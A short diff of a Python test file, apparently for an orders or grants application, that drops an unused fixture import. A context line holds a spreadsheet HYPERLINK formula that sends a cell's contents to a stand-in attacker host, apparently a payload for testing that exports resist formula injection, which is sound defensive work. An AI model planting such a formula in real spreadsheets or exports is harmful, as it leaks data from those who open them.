@@ -8,9 +8,9 @@ from openpyxl import load_workbook
 from core.db import db
 from tests.conftest import login
 from tests.orders.test_register import scholarship
-from tests.orders.test_vacant_grant import contest, draft, english, everyone
+from tests.orders.test_vacant_grant import contest, draft, everyone
 
-__all__ = ["contest", "english"]  # fixtures used below
+__all__ = ["contest"]  # a fixture used below
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
 
